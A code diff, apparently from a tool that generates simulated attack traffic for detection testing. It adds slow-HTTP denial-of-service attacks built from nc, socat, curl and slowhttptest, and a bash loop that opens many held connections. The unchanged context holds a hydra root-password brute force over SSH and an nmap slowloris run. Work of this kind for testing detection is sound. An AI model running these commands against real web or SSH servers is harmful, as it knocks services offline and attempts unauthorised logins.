@@ -32,6 +32,32 @@ function guess(
   };
 }
 
+/**
+ * Connections that say a little and then wait, `rate` new ones a second, `most` at once: `hold` is what one of them runs, in bash, for about
+ * twenty seconds. By programs that everyone has, which hold connections each in its own way.
+ */
+function hold(tool: string, commandOf: (host: string) => string): Attack {
+  return {
+    class: 'slow-http',
+    alerts: ['dos.slow'],
+    technique: 'T1499.002',
+    tool,
+    needs: [tool],
+    speeds: { fast: [50, 150], medium: [20, 40] },
+    plan(site, rate) {
+      const victim = site.address('web');
+      const most = site.random.whole(90, 160);
+      const loop = `for i in $(seq ${most}); do ( ${commandOf(victim)} ) > /dev/null 2>&1 & sleep ${(1 / rate).toFixed(4)}; done; wait`;
+      return {
+        jobs: [{ host: 'evil', argv: ['bash', '-c', loop] }],
+        attackers: [site.address('evil')],
+        victims: [victim],
+        seconds: 25,
+      };
+    },
+  };
+}
+
 export const loginsAndTunnels: readonly Attack[] = [
   guess('hydra', 'ssh', 'files', (_site, tries, words, target) => `hydra -I -l root -P ${words} -t ${Math.min(tries, 8)} ssh://${target}`),
   guess(
@@ -82,6 +108,33 @@ export const loginsAndTunnels: readonly Attack[] = [
       single(
         'evil',
         `nmap -n -Pn -p 80 --max-parallelism ${Math.round(rate)} --script http-slowloris --script-args http-slowloris.runforever ${site.address('web')}`,
+        [site.address('evil')],
+        [site.address('web')],
+        25,
+      ),
+  },
+  // Headers that never end, a line at a time.
+  hold(
+    'nc',
+    (host) =>
+      `(printf 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n'; for n in 1 2 3 4; do sleep 4; printf "X-$n: $n\\r\\n"; done) | nc -w 20 ${host} 80`,
+  ),
+  // A request of which nothing but the first word comes.
+  hold('socat', (host) => `(printf 'GET '; sleep 18) | socat -t 1 - TCP:${host}:80`),
+  // A form whose body comes a few bytes at a time.
+  hold('curl', (host) => `head -c 4000 /dev/zero | curl -s -m 18 --limit-rate 10 -H 'Expect:' -T - http://${host}/form`),
+  {
+    class: 'slow-http.body',
+    alerts: ['dos.slow'],
+    technique: 'T1499.002',
+    tool: 'slowhttptest',
+    needs: ['slowhttptest'],
+    speeds: { fast: [50, 200], medium: [20, 40] },
+    // The body that never ends.
+    plan: (site, rate) =>
+      single(
+        'evil',
+        `slowhttptest -B -c 150 -r ${Math.round(rate)} -i 4 -l 15 -s 8192 -u http://${site.address('web')}/form`,
         [site.address('evil')],
         [site.address('web')],
         25,
